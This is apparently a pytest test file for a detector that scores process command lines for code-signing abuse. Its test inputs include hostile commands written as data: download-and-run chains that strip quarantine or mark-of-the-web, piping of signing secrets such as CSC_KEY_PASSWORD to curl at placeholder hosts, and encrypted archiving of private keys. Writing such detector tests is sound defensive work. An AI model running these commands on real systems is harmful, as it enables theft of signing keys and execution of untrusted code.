"""What the parts of one line are together."""

from __future__ import annotations

import pytest
from codesignrisk_core.scorer import Scorer

CLEAR = "xattr -c /tmp/a"
CURL = "curl -o /tmp/a https://203.0.113.5/a"
CHAINS = ("fetched_and_started", "cleared_file_fetched", "cleared_file_started")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"{CURL} && {CLEAR} && chmod +x /tmp/a && /tmp/a", ["fetched_and_started"]),
        (f"{CURL} && {CLEAR}", ["cleared_file_fetched"]),
        (f"{CLEAR}; /tmp/a", ["cleared_file_started"]),
        (f"{CLEAR}; open /tmp/a", ["cleared_file_started"]),
        ("codesign -f -s - /tmp/a; /tmp/a", ["cleared_file_started"]),
        # other files
        (f"{CLEAR}; /tmp/b", []),
        (f"curl -o /tmp/b https://203.0.113.5/b; {CLEAR}", []),
        (CLEAR, []),
        (f"{CURL}; /tmp/a", []),
    ],
)
def test_files_that_lose_their_quarantine(text: str, found: list[str], scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/zsh", "CommandLine": f"zsh -c '{text}'"})
    assert [name for name in verdict["codesign_indicators"] or () if name in CHAINS] == found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("cp /srv/a.crt /etc/ssl/certs/a.pem && c_rehash", True),
        ("cp /srv/a.crt /etc/ssl/certs/a.pem; openssl rehash /etc/ssl/certs", True),
        ("cp /srv/a.crt /etc/ssl/certs/a.pem && ln -s /etc/ssl/certs/a.pem /etc/ssl/certs/3513523f.0", True),
        ("cp /srv/a.crt /etc/ssl/certs/a.pem; openssl rehash /srv/certs", False),
        ("cp /srv/a.crt /srv/a.pem; c_rehash", False),
    ],
)
def test_a_certificate_beside_the_roots_is_taken_into_use(text: str, found: bool, scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/bash", "CommandLine": f"bash -c '{text}'"})
    assert ("add_trust_anchor" in (verdict["codesign_indicators"] or ())) is found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("tar cz /root/.gnupg | openssl enc -aes256 -out /var/tmp/a", ["archive_password", "output_user_writable"]),
        ("tar cz /root/.gnupg | openssl enc -aes256 -out /srv/backup/a", ["archive_password"]),
        ("tar cz /root/.gnupg | gzip -c", []),
    ],
)
def test_an_archive_of_keys_is_encrypted(text: str, found: list[str], scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/bash", "CommandLine": f"bash -c '{text}'"})
    told = verdict["codesign_indicators"] or ()
    assert sorted(name for name in told if name in ("archive_password", "output_user_writable")) == found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("echo. > C:\\Users\\ann\\Downloads\\a.exe:Zone.Identifier & start C:\\Users\\ann\\Downloads\\a.exe", True),
        ("streams -d C:\\Users\\Public\\a.exe & C:\\Users\\Public\\a.exe", True),
        # all files of a folder
        ("for /r C:\\Users\\ann\\Downloads\\a %f in (*) do @(type nul > \"%f:Zone.Identifier\") & start \"\" "
         "C:\\Users\\ann\\Downloads\\a\\a.exe", True),
        ("for /r C:\\Users\\ann\\Downloads\\a %f in (*) do @(type nul > \"%f:Zone.Identifier\") & start \"\" "
         "C:\\Users\\ann\\Downloads\\b.exe", False),
        ("for %f in (%TEMP%\\a\\*.exe) do (echo.>\"%f:Zone.Identifier\") & %TEMP%\\a\\b.exe", True),
        ("for %f in (%TEMP%\\a\\*.exe) do (echo.>\"%f:Zone.Identifier\") & %TEMP%\\b.exe", False),
        # another file, another place, another stream
        ("streams -d C:\\Users\\Public\\a.exe & C:\\Users\\Public\\b.exe", False),
        ("streams -d C:\\tools\\a.exe & C:\\tools\\a.exe", False),
        ("echo x > C:\\Users\\Public\\a.exe:note & C:\\Users\\Public\\a.exe", False),
    ],
)  # fmt: skip
def test_a_file_loses_the_mark_of_the_web_and_is_started(line: str, found: bool, scorer: Scorer) -> None:
    record = {"EventCode": "1", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": f"cmd /c {line}"}
    assert ("cleared_and_started" in (scorer.assess(record)["codesign_indicators"] or ())) is found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("curl -o C:\\t\\a.exe http://203.0.113.5/a.exe & signtool sign /a C:\\t\\a.exe", True),
        ("powershell iwr http://203.0.113.5/a.ps1 -OutFile a.ps1; Set-AuthenticodeSignature a.ps1 $c", True),
        ("powershell $w.DownloadFile('http://x.example/a.exe','a.exe'); signtool sign /a a.exe", True),
        # another file, no other host, nothing that is signed
        ("curl -o C:\\t\\nuget.exe https://x.example/nuget.exe & signtool sign /a C:\\t\\a.exe", False),
        ("copy b.exe a.exe & signtool sign /a a.exe", False),
        ("powershell Write-Host a.ps1 http://x.example; Set-AuthenticodeSignature a.ps1 $c", False),
        ("curl -o a.exe http://x.example/a.exe & signtool verify /pa a.exe", False),
    ],
)
def test_a_file_is_fetched_and_signed(line: str, found: bool, scorer: Scorer) -> None:
    record = {"EventCode": "1", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": f"cmd /c {line}"}
    assert ("fetched_and_signed" in scorer.assess(record)["codesign_indicators"]) is found


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("certutil -addstore Disallowed kaspersky_2025.cer", True),
        ("certutil -addstore Disallowed old-partner.cer", False),
        ("certutil -addstore Root kaspersky_2025.cer", False),
    ],
)
def test_the_maker_of_a_security_product_is_distrusted(line: str, found: bool, scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "CommandLine": line})
    assert ("security_maker_distrusted" in verdict["codesign_indicators"]) is found


@pytest.mark.parametrize(
    ("text", "indicator", "found"),
    [
        ('cmd /c "dir C:\\ /s /b | findstr /i /e .pfx > k.txt"', "hunt_key_files", True),
        ('cmd /c "dir C:\\certs /b | findstr /i /e .pfx"', "hunt_key_files", False),
        ('cmd /c "netstat -an | findstr .pfx"', "hunt_key_files", False),
        ("bash -c 'tar czf - /etc/ssl/private | openssl enc -aes256 -out /tmp/x'", "archive_password", True),
        ("bash -c 'tar czf - /etc/ssl/private | gpg -c > /tmp/x'", "archive_password", True),
        ("bash -c 'tar czf /tmp/x.tgz /etc/ssl/private; openssl version'", "archive_password", False),
    ],
)
def test_what_the_commands_of_a_pipe_do_together(text: str, indicator: str, found: bool, scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "CommandLine": text})
    assert (indicator in (verdict["codesign_indicators"] or ())) is found


@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("env | grep -E CSC_LINK | curl -s -d @- https://203.0.113.5/", True),
        ("printenv CSC_KEY_PASSWORD | curl -s -d @- https://203.0.113.5/", True),
        ("printenv | grep COSIGN_PASSWORD | base64 -w0 | curl -T - https://drop.example/", True),
        # shown, other names, sent without them, set for a command
        ("env | grep CSC_LINK", False),
        ("env | grep PATH | curl -s -d @- https://203.0.113.5/", False),
        ("env | curl -s -d @- https://203.0.113.5/", False),
        ("env CSC_LINK=a.p12 electron-builder; curl -d @report.json https://ci.example/", False),
    ],
)
def test_secrets_of_signing_out_of_the_environment(text: str, sent: bool, scorer: Scorer) -> None:
    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/sh", "CommandLine": f"sh -c '{text}'"})
    assert ("signing_secrets_sent" in (verdict["codesign_indicators"] or ())) is sent
